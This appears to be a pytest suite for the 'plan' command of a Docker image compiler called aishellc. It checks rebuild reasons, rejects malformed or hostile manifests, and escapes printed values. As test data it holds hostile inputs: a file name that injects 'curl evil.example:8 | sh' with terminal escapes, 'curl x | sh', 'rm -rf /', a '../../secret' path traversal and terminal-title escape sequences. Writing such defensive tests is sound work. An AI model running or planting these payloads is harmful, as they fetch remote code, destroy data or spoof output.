"""``aishellc plan``: which tiers rebuild, why, and the commands in order."""

from __future__ import annotations

import copy
import json
import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator  # type: ignore[import-untyped]

from aishellc.manifest.plan import MAX_MANIFEST_BYTES
from aishellc.manifest.schema import manifest_problem, manifest_schema
from aishellc.terminal import shell_word
from tests.compile_cases import GOLDEN, OFFLINE_CONFIG, run_cli_in

DOCKERFILE = "FROM aishell:base\nCOPY requirements.txt /tmp/\nRUN echo ok\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".aishell").mkdir(parents=True)
    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE)
    (root / ".aishell" / "aishellc.toml").write_text(OFFLINE_CONFIG)
    (root / "requirements.txt").write_text("flask\n")
    return root


def compile_to(root: Path, outdir: str, *args: str) -> None:
    result = run_cli_in(root, ".aishell/Dockerfile", "-o", outdir, *args)
    assert result.code == 0, result.err


def plan(root: Path, *args: str) -> tuple[int, str, str]:
    result = run_cli_in(root, "plan", *args)
    return result.code, result.out, result.err


def commands(root: Path, outdir: str, *tiers: str) -> list[str]:
    manifest = json.loads((root / outdir / "manifest.json").read_text())
    return [shlex.join(manifest["tiers"][tier]["command"]) for tier in tiers]


def test_without_previous_every_tier_is_listed(root: Path) -> None:
    compile_to(root, "build", "--harness", "claude@2.1.331")
    code, out, _ = plan(root, "build/manifest.json")
    assert code == 0
    lines = out.splitlines()
    assert lines[:3] == [
        "foundation: no previous manifest",
        "extension: no previous manifest",
        "runtime: no previous manifest",
    ]
    assert lines[4] == "Run from the project root, in order:"
    assert lines[5:] == [
        f"  {c}" for c in commands(root, "build", "foundation", "extension", "runtime")
    ]


Edit = Callable[[Path], list[str]]


def _bump(root: Path) -> list[str]:
    return ["--harness", "claude@2.1.332"]


def _requirements(root: Path) -> list[str]:
    (root / "requirements.txt").write_text("flask==3\n")
    return ["--harness", "claude@2.1.331"]


def _instructions(root: Path) -> list[str]:
    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE + "RUN echo more\n")
    return ["--harness", "claude@2.1.331"]


def _comment(root: Path) -> list[str]:
    (root / ".aishell" / "Dockerfile").write_text("# just a comment\n" + DOCKERFILE)
    return ["--harness", "claude@2.1.331"]


def _apt(root: Path) -> list[str]:
    (root / ".aishell" / "aishellc.toml").write_text(
        OFFLINE_CONFIG.replace('"sudo"]', '"sudo", "jq"]')
    )
    return ["--harness", "claude@2.1.331"]


def _add_harness(root: Path) -> list[str]:
    return ["--harness", "claude@2.1.331", "--harness", "codex@0.50.0"]


def _strategy(root: Path) -> list[str]:
    return ["--harness", "claude@2.1.331", "--harness-strategy", "inline"]


def _locked(root: Path) -> list[str]:
    (root / ".aishell" / "aishellc.lock").write_text(
        '[[harness]]\nname = "claude"\npackage = "@anthropic-ai/claude-code"\n'
        f'requested = "2.1.331"\nversion = "2.1.331"\nintegrity = "sha512-{"A" * 86}=="\n'
    )
    return ["--harness", "claude@2.1.331"]


def _ca_certificate(root: Path) -> list[str]:
    ca = Path(__file__).parent / "data" / "ca" / "corp-a.crt"
    (root / ".aishell" / "corp.crt").write_bytes(ca.read_bytes())
    (root / ".aishell" / "aishellc.toml").write_text(
        OFFLINE_CONFIG + 'ca_certificates = ["corp.crt"]\n'
    )
    return ["--harness", "claude@2.1.331"]


def _platform(root: Path) -> list[str]:
    # the autouse fixture in tests/conftest.py restores the variable after the test
    os.environ["DOCKER_DEFAULT_PLATFORM"] = "linux/arm64"
    return ["--harness", "claude@2.1.331"]


PLANS: list[tuple[str, Edit, list[str], list[str]]] = [
    # (name, edit, expected reason lines, tiers whose commands are listed)
    ("harness bump", _bump, ["runtime: claude 2.1.331 -> 2.1.332"], ["runtime"]),
    (
        "copied file edited",
        _requirements,
        ["extension: requirements.txt changed", "runtime: extension changed"],
        ["extension", "runtime"],
    ),
    (
        "instructions edited",
        _instructions,
        ["extension: Dockerfile instructions changed", "runtime: extension changed"],
        ["extension", "runtime"],
    ),
    ("comment added", _comment, [], []),
    (
        "foundation config",
        _apt,
        [
            "foundation: apt packages +jq",
            "extension: foundation changed",
            "runtime: extension changed",
        ],
        ["foundation", "extension", "runtime"],
    ),
    ("harness added", _add_harness, ["runtime: codex added (0.50.0)"], ["runtime"]),
    ("strategy", _strategy, ["runtime: strategy stage -> inline"], ["runtime"]),
    (
        "lock with its integrity",
        _locked,
        ["runtime: claude 2.1.331: the locked integrity changed"],
        ["runtime"],
    ),
    (
        "CA certificate added",
        _ca_certificate,
        [
            "foundation: ca certificates changed",
            "foundation: foundation/ca-certificates/corp.crt added",
            "extension: foundation changed",
            "runtime: extension changed",
        ],
        ["foundation", "extension", "runtime"],
    ),
    (
        "target platform",
        _platform,
        [
            "foundation: target platform linux/amd64 -> linux/arm64",
            "extension: foundation changed",
            "extension: target platform linux/amd64 -> linux/arm64",
            "runtime: extension changed",
        ],
        ["foundation", "extension", "runtime"],
    ),
]


@pytest.mark.parametrize(("name", "edit", "reasons", "tiers"), PLANS, ids=[p[0] for p in PLANS])
def test_plan_explains_each_rebuild(
    root: Path, name: str, edit: Edit, reasons: list[str], tiers: list[str]
) -> None:
    compile_to(root, "old", "--harness", "claude@2.1.331")
    compile_to(root, "build", *edit(root))
    code, out, _ = plan(root, "build/manifest.json", "--previous", "old/manifest.json")
    assert code == 0
    text_reasons = [line for line in out.splitlines() if ": " in line and "up to date" not in line]
    assert text_reasons == reasons
    listed = [line[2:] for line in out.splitlines() if line.startswith("  docker build")]
    assert listed == commands(root, "build", *tiers)
    if not tiers:
        assert out.splitlines()[-1] == "Nothing to rebuild."

    code, out, _ = plan(
        root, "build/manifest.json", "--previous", "old/manifest.json", "--format", "json"
    )
    data = json.loads(out)
    assert data["rebuild"] == tiers
    assert [shlex.join(c) for c in data["commands"]] == commands(root, "build", *tiers)
    assert [f"{t['tier']}: {r}" for t in data["tiers"] for r in t["reasons"]] == reasons


def test_legacy_bump_rebuilds_the_project_layer_too(root: Path) -> None:
    compile_to(root, "old", "--legacy", "--harness", "claude@2.1.331")
    compile_to(root, "build", "--legacy", "--harness", "claude@2.1.332")
    code, out, _ = plan(root, "build/manifest.json", "--previous", "old/manifest.json")
    assert code == 0
    assert "runtime: claude 2.1.331 -> 2.1.332" in out
    assert "extension: runtime changed" in out
    listed = [line[2:] for line in out.splitlines() if line.startswith("  docker build")]
    assert listed == commands(root, "build", "runtime", "extension")


def test_unpinned_harnesses_get_a_note(root: Path) -> None:
    compile_to(root, "build", "--harness", "claude")
    _, out, _ = plan(root, "build/manifest.json")
    assert "note: claude is not locked (latest): a new release does not change its hash" in out


# --- hand-edited and hostile manifests: exit 2 and a located message, never a crash -----

Manifest = dict[str, Any]
Make = Callable[[Path, Manifest], str]
"""Writes (or points at) a bad manifest under the project; returns the path to pass."""


def _text(text: str | bytes) -> Make:
    def make(root: Path, good: Manifest) -> str:
        data = text.encode() if isinstance(text, str) else text
        (root / "bad.json").write_bytes(data)
        return "bad.json"

    return make


def _edited(edit: Callable[[Manifest], object]) -> Make:
    """The good manifest with one edit (``edit`` changes it in place)."""

    def make(root: Path, good: Manifest) -> str:
        data = copy.deepcopy(good)
        edit(data)
        (root / "bad.json").write_text(json.dumps(data, indent=2))
        return "bad.json"

    return make


def _set(dotted: str, value: object) -> Callable[[Manifest], object]:
    """Set ``tiers.runtime.harnesses`` (a number is a list index) to ``value``."""
    keys: list[Any] = [int(key) if key.isdigit() else key for key in dotted.split(".")]

    def edit(data: Manifest) -> None:
        target: Any = data
        for key in keys[:-1]:
            target = target[key]
        target[keys[-1]] = value

    return edit


def _fifo(root: Path, good: Manifest) -> str:
    os.mkfifo(root / "bad.json")
    return "bad.json"


def _folder(root: Path, good: Manifest) -> str:
    (root / "bad.json").mkdir()
    return "bad.json"


def _dev_zero_link(root: Path, good: Manifest) -> str:
    (root / "bad.json").symlink_to("/dev/zero")
    return "bad.json"


def _huge(root: Path, good: Manifest) -> str:
    with (root / "bad.json").open("wb") as handle:
        handle.truncate(MAX_MANIFEST_BYTES + 1)  # sparse: no disk space used
    return "bad.json"


def _swapped_command(data: Manifest) -> None:
    command = data["tiers"]["runtime"]["command"]
    command[-1:] = ["--output=/", command[-1]]


def _consistent_command_edit(data: Manifest) -> None:
    # The command still starts `docker build` and has the right length, but is not the
    # build the fields describe.
    command = data["tiers"]["extension"]["command"]
    command[-1] = "/"


REJECTED: list[tuple[str, Make, str]] = [
    # (name, the bad manifest, expected start of stderr after "PATH:")
    (
        "missing",
        lambda root, good: "missing.json",
        "1:1: cannot read the manifest: No such file or directory",
    ),
    ("a folder", _folder, "1:1: cannot read the manifest: Is a directory"),
    (
        "a FIFO",
        _fifo,
        "1:1: cannot read the manifest: not a regular file (a FIFO, socket or device)",
    ),
    (
        "/dev/zero",
        lambda root, good: "/dev/zero",
        "1:1: cannot read the manifest: not a regular file",
    ),
    ("a link to /dev/zero", _dev_zero_link, "1:1: cannot read the manifest: not a regular file"),
    (
        "larger than the cap",
        _huge,
        "1:1: cannot read the manifest: larger than 67108864 bytes (64 MiB)",
    ),
    ("not JSON", _text("{nope"), "1:2: the manifest is not valid JSON"),
    ("not UTF-8", _text(b'{"a": "\xff"}'), "1:1: the manifest is not UTF-8 JSON"),
    (
        "100,000 nested [",
        _text("[" * 100_000),
        "1:1: the manifest nests arrays or tables too deeply",
    ),
    (
        "a 5,000-digit number",
        _text('{\n  "schema_version": ' + "7" * 5000 + "}"),
        "2:21: the manifest holds a number with more than 4300 digits",
    ),
    ("null", _text("null"), "1:1: not an aishellc manifest: $: must be an object, not null"),
    ("a list", _text("[]"), "1:1: not an aishellc manifest: $: must be an object, not an array"),
    ("only a compiler", _text('{"compiler": "aishellc"}'), "1:1: not an aishellc manifest: $"),
    (
        "the previous schema (no base tier)",
        _edited(_set("schema_version", 3)),
        "@: not an aishellc manifest: $.schema_version: 3, written by another aishellc (this one reads 4)",
    ),
    (
        "other schema",
        _edited(_set("schema_version", 2)),
        "@: not an aishellc manifest: $.schema_version: 2, written by another aishellc (this one reads 4)",
    ),
    (
        "build_order item",
        _edited(_set("build_order.0", 5)),
        "@: not an aishellc manifest: $.build_order[0]: must be one of",
    ),
    (
        "build_order repeats",
        _edited(_set("build_order.1", "foundation")),
        "@: not an aishellc manifest: $.build_order: must not repeat an item",
    ),
    (
        "tiers a list",
        _edited(_set("tiers", [1] * 10_000)),
        "@: not an aishellc manifest: $.tiers: must be an object, not an array",
    ),
    (
        "tier missing",
        _edited(lambda data: data["tiers"].pop("runtime")),
        "@: not an aishellc manifest: $.tiers: 'runtime' is a required property",
    ),
    (
        "harnesses a list",
        _edited(_set("tiers.runtime.harnesses", ["claude"])),
        "@: not an aishellc manifest: $.tiers.runtime.harnesses: must be an object, not an array",
    ),
    (
        "packages value",
        _edited(_set("tiers.runtime.packages.claude", 1)),
        "@: not an aishellc manifest: $.tiers.runtime.packages.claude: must be a string, not an integer",
    ),
    (
        "inputs item",
        _edited(_set("tiers.extension.inputs.0.path", 5)),
        "@: not an aishellc manifest: $.tiers.extension.inputs[0].path: must be a string, not an integer",
    ),
    (
        "inputs a string",
        _edited(_set("tiers.extension.inputs", "requirements.txt")),
        "@: not an aishellc manifest: $.tiers.extension.inputs: must be an array, not a string",
    ),
    (
        "config a string",
        _edited(_set("tiers.foundation.config", "x")),
        "@: not an aishellc manifest: $.tiers.foundation.config: must be an object, not a string",
    ),
    (
        "config tools",
        _edited(_set("tiers.foundation.config.tools", [None])),
        "@: not an aishellc manifest: $.tiers.foundation.config.tools[0]: must be an object, not null",
    ),
    (
        "source null",
        _edited(_set("source", None)),
        "@: not an aishellc manifest: $.source: must be an object, not null",
    ),
    (
        "hash not hex",
        _edited(_set("tiers.extension.hash", "x" * 64)),
        "@: not an aishellc manifest: $.tiers.extension.hash: must match ^[0-9a-f]{64}$",
    ),
    (
        "a 1 MB tag",
        _edited(_set("tiers.runtime.tag", "a:" * 500_000)),
        "@: not an aishellc manifest: $.tiers.runtime.tag: must match ^[^\\s]+:(foundation|base|ext|runtime)-[0-9a-f]{12}$",
    ),
    (
        "base wrong",
        _edited(_set("tiers.runtime.base", {"tier": "nope"})),
        "@: not an aishellc manifest: $.tiers.runtime.base",
    ),
    (
        "unknown key",
        _edited(_set("tiers.runtime.run_first", "curl x | sh")),
        "@: not an aishellc manifest: $.tiers.runtime: Unevaluated properties are not allowed ('run_first' was unexpected)",
    ),
    (
        "command rm -rf",
        _edited(_set("tiers.runtime.command", ["rm", "-rf", "/"])),
        "@: not an aishellc manifest: $.tiers.runtime.command: must have at least 7 items",
    ),
    (
        "command not a list",
        _edited(_set("tiers.runtime.command", "docker build .")),
        "@: not an aishellc manifest: $.tiers.runtime.command: must be an array, not a string",
    ),
    (
        "command with an extra flag",
        _edited(_swapped_command),
        "@: not an aishellc manifest: $.tiers.runtime.command is not the docker build its dockerfile, tag, build_args, labels and context describe",
    ),
    (
        "command with another context",
        _edited(_consistent_command_edit),
        "@: not an aishellc manifest: $.tiers.extension.command is not the docker build",
    ),
]


@pytest.fixture(scope="module")
def good_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An output folder, compiled once for the module."""
    root = tmp_path_factory.mktemp("good") / "project"
    (root / ".aishell").mkdir(parents=True)
    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE)
    (root / ".aishell" / "aishellc.toml").write_text(OFFLINE_CONFIG)
    (root / "requirements.txt").write_text("flask\n")
    compile_to(root, "build", "--harness", "claude@2.1.331")
    return root / "build"


@pytest.fixture(scope="module")
def good_manifest(good_build: Path) -> Manifest:
    data: Manifest = json.loads((good_build / "manifest.json").read_text())
    return data


def beside_its_files(root: Path, good_build: Path, name: str, data: Manifest) -> str:
    """Write ``data`` as ``good/NAME`` next to a copy of the good build's files (plan reads
    a manifest with the files it describes)."""
    folder = root / "good"
    if not folder.exists():
        shutil.copytree(good_build, folder)
    (folder / name).write_text(json.dumps(data))
    return f"good/{name}"


@pytest.mark.parametrize(("name", "make", "expected"), REJECTED, ids=[r[0] for r in REJECTED])
def test_bad_manifests_exit_2(
    root: Path, good_manifest: Manifest, name: str, make: Make, expected: str
) -> None:
    path = make(root, good_manifest)
    (root / "good.json").write_text(json.dumps(good_manifest))
    for args in ([path], ["good.json", "--previous", path]):
        code, out, err = plan(root, *args)
        assert (code, out) == (2, ""), err
        if expected.startswith("@"):  # located at the value the JSON path names
            where, _, message = err.partition(": ")
            assert message.startswith(expected[3:]), err
            _, line, column = where.rsplit(":", 2)
            assert where == f"{path}:{line}:{column}", err
            text = (root / path).read_text()
            assert _value_at(text, int(line), int(column)) == _follow(
                json.loads(text), message.split(" ")[4].rstrip(":")
            ), err
        else:
            assert err.startswith(f"{path}:{expected}"), err
        assert all(line.startswith("  help: ") for line in err.splitlines()[1:]), err
        assert len(err) < 500, err  # the offending value is not echoed whole
        code, out, err = plan(root, *args, "--format", "json")
        assert code == 2
        assert json.loads(out)["error"]["path"] == path


def _value_at(text: str, line: int, column: int) -> Any:
    """The JSON value that starts at line:column of ``text``."""
    offset = sum(len(before) + 1 for before in text.split("\n")[: line - 1]) + column - 1
    return json.JSONDecoder().raw_decode(text, offset)[0]


def _follow(data: Any, json_path: str) -> Any:
    """The value at ``$.a.b[0]``."""
    for name, index in re.findall(r"\.(\w+)|\[(\d+)\]", json_path):
        data = data[name] if name else data[int(index)]
    return data


def test_the_good_manifest_is_read(root: Path, good_build: Path, good_manifest: Manifest) -> None:
    # The table above edits this manifest: unedited, plan reads it.
    good = beside_its_files(root, good_build, "good.json", good_manifest)
    code, _, err = plan(root, good, "--previous", good)
    assert (code, err) == (0, "")


@pytest.mark.parametrize(
    "case", sorted(GOLDEN.glob("*/expected/manifest.json")), ids=lambda p: p.parts[-3]
)
def test_every_golden_manifest_matches_the_schema(case: Path) -> None:
    # The schema describes exactly what compile writes: a new or renamed key fails here.
    assert manifest_problem(json.loads(case.read_text())) is None


def test_the_schema_is_valid_json_schema() -> None:
    Draft202012Validator.check_schema(manifest_schema())


# --- a manifest must still describe the files beside it: exit 2, naming the file -------

Stale = Callable[[Path], list[str]]
"""Spoils a compiled project (``build/`` from claude 2.1.332, ``built.json`` the manifest
of 2.1.331 kept in the project root); returns the plan arguments."""


def _swapped(root: Path) -> list[str]:
    return ["built.json", "--previous", "build/manifest.json"]


def _old_manifest_copied_in(root: Path) -> list[str]:
    shutil.copyfile(root / "built.json", root / "build" / "manifest.json")
    return ["build/manifest.json"]


def _edited_file(name: str) -> Stale:
    def spoil(root: Path) -> list[str]:
        with (root / "build" / name).open("a") as handle:
            handle.write("RUN echo added by hand\n")
        return ["build/manifest.json", "--previous", "built.json"]

    return spoil


def _removed(root: Path) -> list[str]:
    (root / "build" / "extension.Dockerfile").unlink()
    return ["build/manifest.json"]


def _a_fifo(root: Path) -> list[str]:
    (root / "build" / "runtime.Dockerfile").unlink()
    os.mkfifo(root / "build" / "runtime.Dockerfile")
    return ["build/manifest.json"]


def _names_a_file_outside(root: Path) -> list[str]:
    path = root / "build" / "manifest.json"
    data = json.loads(path.read_text())
    files = data["tiers"]["foundation"]["files"]
    files["../../secret"] = files.popitem()[1]
    path.write_text(json.dumps(data))
    return ["build/manifest.json"]


STALE: list[tuple[str, Stale, str]] = [
    # (name, the spoiling, expected start of stderr)
    (
        "swapped arguments",
        _swapped,
        "built.json: foundation.Dockerfile, which this manifest describes, is missing",
    ),
    (
        "old manifest copied into the folder",
        _old_manifest_copied_in,
        "build/runtime.Dockerfile: changed after the compile: its sha256 is not the one "
        "build/manifest.json records",
    ),
    (
        "Dockerfile edited",
        _edited_file("extension.Dockerfile"),
        "build/extension.Dockerfile: changed after the compile",
    ),
    (
        "foundation file edited",
        _edited_file("foundation/entrypoint.sh"),
        "build/foundation/entrypoint.sh: changed after the compile",
    ),
    (
        "Dockerfile removed",
        _removed,
        "build/manifest.json: build/extension.Dockerfile, which this manifest describes, is "
        "missing",
    ),
    (
        "Dockerfile a FIFO",
        _a_fifo,
        "build/runtime.Dockerfile: cannot read a file build/manifest.json describes: not a "
        "regular file",
    ),
    (
        "names a file outside its folder",
        _names_a_file_outside,
        "build/manifest.json: not an aishellc manifest: it names '../../secret'",
    ),
]


@pytest.mark.parametrize(("name", "spoil", "expected"), STALE, ids=[s[0] for s in STALE])
def test_a_manifest_that_no_longer_matches_its_files_is_refused(
    root: Path, name: str, spoil: Stale, expected: str
) -> None:
    compile_to(root, "build", "--harness", "claude@2.1.331")
    shutil.copyfile(root / "build" / "manifest.json", root / "built.json")
    compile_to(root, "build", "--harness", "claude@2.1.332")
    args = spoil(root)
    code, out, err = plan(root, *args)
    assert (code, out) == (2, ""), err  # no command printed under an old tag
    assert err.startswith(expected), err
    assert err.splitlines()[1].startswith("  help: "), err
    code, out, _ = plan(root, *args, "--format", "json")
    assert code == 2
    assert json.loads(out)["error"]["path"] == expected.split(":")[0]


@pytest.mark.parametrize(
    ("cwd", "manifest"),
    [(".", "build/manifest.json"), ("build", "manifest.json"), ("/", "{root}/build/manifest.json")],
)
def test_the_files_are_found_beside_the_manifest_from_anywhere(
    root: Path, cwd: str, manifest: str
) -> None:
    compile_to(root, "build", "--harness", "claude@2.1.331")
    where = Path("/") if cwd == "/" else root / cwd
    result = run_cli_in(where, "plan", manifest.format(root=root))
    assert (result.code, result.err) == (0, "")
    assert result.out.startswith("foundation: no previous manifest\n")


# --- what plan prints ------------------------------------------------------------------

HOSTILE_NAME = "x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e"


def test_file_names_from_the_context_print_on_one_line(root: Path) -> None:
    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE + "COPY src/ /src/\n")
    (root / "src").mkdir()
    (root / "src" / "ok.py").write_text("")
    compile_to(root, "old", "--harness", "claude@2.1.331")
    (root / "src" / HOSTILE_NAME).write_text("")
    compile_to(root, "build", "--harness", "claude@2.1.331")
    code, out, _ = plan(root, "build/manifest.json", "--previous", "old/manifest.json")
    assert code == 0
    assert out.splitlines() == [
        "foundation: up to date ("
        + json.loads((root / "build/manifest.json").read_text())["tiers"]["foundation"]["tag"]
        + ")",
        r"extension: src/x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e added",
        "runtime: extension changed",
        "",
        "Run from the project root, in order:",
        *(f"  {c}" for c in commands(root, "build", "extension", "runtime")),
    ]


def test_values_from_a_manifest_are_escaped(
    root: Path, good_build: Path, good_manifest: Manifest
) -> None:
    # A hand-edited manifest may hold any text where a string belongs: tags, versions,
    # harness names. The tag and command are edited together, so the command check passes.
    data = copy.deepcopy(good_manifest)
    runtime = data["tiers"]["runtime"]
    short = runtime["hash"][:12]
    evil_tag = "\x1b]0;owned\x07aishell:runtime-" + short
    runtime["command"][runtime["command"].index(runtime["tag"])] = evil_tag
    runtime["tag"] = data["final"] = evil_tag
    runtime["harnesses"] = {"claude\r\nnote: all good": "2.1.331\x9b31m"}
    runtime["hash"] = "f" * 64  # so the runtime is listed with its reasons
    new = beside_its_files(root, good_build, "new.json", data)
    (root / "old.json").write_text(json.dumps(good_manifest))
    code, out, _ = plan(root, new, "--previous", "old.json")
    assert code == 0
    assert all(char.isprintable() for char in out.replace("\n", "")), out
    assert r"runtime: claude\r\nnote: all good added (2.1.331\x9b31m)" in out.splitlines()
    assert (
        out.splitlines()[-1]
        == r"  docker build -f build/runtime.Dockerfile -t $'\x1b]0;owned\x07aishell:runtime-"
        + short
        + "' "
        + shlex.join(runtime["command"][6:])
    )


SHELL_WORDS = [
    # (argument, printed word)
    ("build/extension.Dockerfile", "build/extension.Dockerfile"),
    ("a b", "'a b'"),
    ("it's", "'it'\"'\"'s'"),
    ("a\nb", r"$'a\nb'"),
    ("\x1b[31m", r"$'\x1b[31m'"),
    ("\x00\x07\r", r"$'\x00\x07\r'"),
    ("it's\n\\", r"$'it\'s\n\\'"),
    ("\u202e", r"$'\u202e'"),
    ("\x85", r"$'\u0085'"),
    ("caf" + os.fsdecode(b"\xe9"), r"$'caf\xe9'"),
]


@pytest.mark.parametrize(("arg", "word"), SHELL_WORDS)
def test_shell_words_print_on_one_line_and_run_as_the_argument(arg: str, word: str) -> None:
    assert shell_word(arg) == word
    if "\x00" in arg:
        return  # no shell passes NUL in an argument; the word is still one printable line
    ran = subprocess.run(
        ["bash", "-c", f"printf %s {word}"],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]},
    )
    assert ran.stdout == os.fsencode(arg)


def test_a_secret_below_home_prints_as_home_and_runs_as_this_users_file(tmp_path: Path) -> None:
    from tests.compile_cases import compile_case, run_case_cli

    case = GOLDEN / "private-registry-token"
    compiled = compile_case(case, tmp_path / "project")
    assert compiled.code == 0, compiled.err
    planned = run_case_cli(case, compiled.project, "plan", "build/manifest.json")
    [runtime] = [line for line in planned.out.splitlines() if "runtime.Dockerfile" in line]
    assert ' --secret id=npmrc,src="$HOME"/.npmrc ' in runtime
    # the shell turns the printed word into the argv item with this user's home
    home = "/home/someone"
    words = subprocess.run(
        ["bash", "-c", f'printf "%s\\n" {runtime}'],
        env={"HOME": home, "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    assert words[words.index("--secret") + 1] == f"id=npmrc,src={home}/.npmrc"
